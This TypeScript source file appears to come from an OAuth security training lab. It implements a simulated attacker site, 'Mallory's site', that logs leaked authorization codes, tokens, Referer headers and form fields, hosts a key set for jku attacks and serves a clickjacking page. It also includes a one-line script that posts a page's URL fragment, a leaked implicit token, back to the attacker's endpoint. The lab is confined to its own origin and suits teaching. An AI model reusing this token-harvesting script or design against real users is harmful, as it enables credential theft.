import type { JWK } from 'jose';
import { readLimitedText } from '../http/read-limited';
import { OAuthError, invalidRequest } from '../oauth-server/errors';
import { jsonResponse } from '../oauth-server/http';
import { escapeHtml } from '../oauth-server/pages/html';
import { ATTACKER_JWKS_KEY } from '../realms/attacker-jwks';
import type { Realm } from '../realms/types';
import { BACK_SCRIPT } from './back-link';
import { clickjackPage } from './clickjack-page';
import { readFrameCheck, recordFrameLoad } from './frame-check';
import { appendRecord, readLog } from './log';
import { attackerPage } from './page-shell';
import { plantRoute } from './pages/plant';

/**
 * The attacker site of a lab realm: same-origin, under `/attacker/{realm}/…` (DESIGN.md). It records
 * what it receives — codes and tokens in query strings, Referer headers, harvested form fields, URL
 * fragments its page reads — and serves the key set Mallory publishes for `jku` attacks. It never
 * sends anything anywhere: no server fetches a URL a user supplied.
 *
 * - `GET /attacker/{realm}/log` → `{ "records": [...] }`, newest last
 * - `GET /attacker/{realm}/jwks` → Mallory's JWK Set; `PUT` with `{ "keys": [public JWKs] }` replaces it
 * - `POST /attacker/{realm}/fragment` (JSON `{ "fragment": "…" }`) → records a fragment her page read
 * - `GET /attacker/{realm}/clickjack?…` → her clickjacking page, framing the realm's authorization endpoint (not recorded)
 * - `POST /attacker/{realm}/frame-check` (JSON `{ "framed", "consent" }`, booleans) → what that page saw of its frame;
 *   `GET` → `{ "check": … | null }`. Kept apart from the log: it is her page's probe, not loot.
 * - anything else, GET or POST → recorded, answered with Mallory's page
 */
const MAX_BODY = 16 * 1024;
const MAX_FIELDS = 30;

/** Her page hands any fragment it arrived with back to her site, as a leaked implicit token would be. */
const FRAGMENT_SCRIPT =
  "if(location.hash.length>1){fetch(location.pathname.split('/').slice(0,3).join('/')+'/fragment',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({fragment:location.hash.slice(1)})});}";
const PAGE_SCRIPT = `${FRAGMENT_SCRIPT}${BACK_SCRIPT}`;

export async function attackerSiteHandler(request: Request, realm: Realm, path: string): Promise<Response> {
  if (realm.id === 'demo') throw new OAuthError('invalid_request', 'The attacker site exists only for lab realms.', 404);
  const method = request.method.toUpperCase();
  if (path === 'log') {
    if (method !== 'GET' && method !== 'HEAD')
      throw new OAuthError('invalid_request', 'The log is read-only: use GET.', 405, { Allow: 'GET, HEAD' });
    return jsonResponse({ records: await readLog(realm.store) });
  }
  if (path === 'jwks') return jwksRoute(request, realm, method);
  if (path === 'plant') return plantRoute(request, realm, method);
  if (path === 'fragment' && method === 'POST') {
    const body = await readBody(request);
    const parsed = safeJson(body.text);
    const fragment = typeof parsed?.fragment === 'string' ? parsed.fragment.slice(0, 4096) : '';
    const record = await appendRecord(realm.store, {
      at: realm.clock.nowSeconds(),
      kind: 'fragment',
      method,
      path,
      query: {},
      fields: pairs(new URLSearchParams(fragment)),
    });
    return jsonResponse({ recorded: record.seq }, 201);
  }
  if (path === 'clickjack' && (method === 'GET' || method === 'HEAD')) return clickjackPage(realm, new URL(request.url).searchParams);
  if (path === 'frame-check') return frameCheckRoute(request, realm, method);
  if (method !== 'GET' && method !== 'POST')
    throw new OAuthError('invalid_request', 'Mallory’s site answers GET and POST.', 405, { Allow: 'GET, POST' });
  const url = new URL(request.url);
  const fields = method === 'POST' ? await formFields(request) : {};
  const referer = request.headers.get('referer')?.slice(0, 2048) ?? undefined;
  await appendRecord(realm.store, {
    at: realm.clock.nowSeconds(),
    kind: 'request',
    method,
    path: `/${path}`.slice(0, 200),
    query: pairs(url.searchParams),
    fields,
    referer,
  });
  return page(realm);
}

async function jwksRoute(request: Request, realm: Realm, method: string): Promise<Response> {
  if (method === 'GET' || method === 'HEAD') return jsonResponse((await realm.store.get(ATTACKER_JWKS_KEY)) ?? { keys: [] });
  if (method !== 'PUT')
    throw new OAuthError('invalid_request', 'Use GET to read Mallory’s key set, PUT to replace it.', 405, { Allow: 'GET, HEAD, PUT' });
  const parsed = safeJson((await readBody(request)).text);
  const keys = parsed?.keys;
  if (!Array.isArray(keys) || keys.length > 5 || !keys.every((k) => typeof k === 'object' && k !== null && !Array.isArray(k))) {
    throw invalidRequest('Send { "keys": [ up to 5 public JWKs ] }.');
  }
  // Public halves only: a JWK Set is published, so a private or symmetric key here would be a mistake.
  if (keys.some((k: JWK) => 'd' in k || 'k' in k || 'p' in k)) throw invalidRequest('Publish public keys only (no d, k or p members).');
  await realm.store.set(ATTACKER_JWKS_KEY, { keys }, 3600);
  return new Response(null, { status: 204, headers: { 'Cache-Control': 'no-store' } });
}

async function frameCheckRoute(request: Request, realm: Realm, method: string): Promise<Response> {
  if (method === 'GET' || method === 'HEAD') return jsonResponse({ check: (await readFrameCheck(realm.store)) ?? null });
  if (method !== 'POST')
    throw new OAuthError('invalid_request', 'Use POST to report a frame load, GET to read the last report.', 405, {
      Allow: 'GET, HEAD, POST',
    });
  const parsed = safeJson((await readBody(request)).text);
  if (typeof parsed?.framed !== 'boolean' || typeof parsed.consent !== 'boolean')
    throw invalidRequest('Send { "framed": true|false, "consent": true|false }.');
  const check = await recordFrameLoad(realm.store, { framed: parsed.framed, consent: parsed.consent }, realm.clock.nowSeconds());
  return jsonResponse({ check }, 201);
}

function page(realm: Realm): Response {
  return attackerPage({
    title: 'Mallory’s site',
    body:
      `<h1>Mallory’s site</h1><p class="lab">Everything sent here is recorded in the attacker log of lab realm ` +
      `<code>${escapeHtml(realm.id)}</code>.</p><p><a id="back" href="/attacks">Back to the lab</a></p>`,
    script: PAGE_SCRIPT,
    csp: ["connect-src 'self'"],
  });
}

async function readBody(request: Request): Promise<{ type: string; text: string }> {
  const type = (request.headers.get('content-type') ?? '').split(';')[0].trim().toLowerCase();
  const text = await readLimitedText(request, MAX_BODY, {
    tooLarge: () => new OAuthError('invalid_request', 'The body is larger than 16 KB.', 413),
    notUtf8: () => invalidRequest('The body is not valid UTF-8.'),
  });
  return { type, text };
}

async function formFields(request: Request): Promise<Record<string, string>> {
  const body = await readBody(request);
  return body.type === 'application/x-www-form-urlencoded'
    ? pairs(new URLSearchParams(body.text))
    : body.text
      ? { body: body.text.slice(0, 1024) }
      : {};
}

function pairs(params: URLSearchParams): Record<string, string> {
  const out: Record<string, string> = {};
  let n = 0;
  for (const [k, v] of params) {
    if (n++ >= MAX_FIELDS) break;
    if (k === '__proto__') continue;
    out[k.slice(0, 64)] = v.slice(0, 4096);
  }
  return out;
}

function safeJson(text: string): Record<string, unknown> | undefined {
  try {
    const v: unknown = JSON.parse(text);
    return typeof v === 'object' && v !== null && !Array.isArray(v) ? (v as Record<string, unknown>) : undefined;
  } catch {
    return undefined;
  }
}
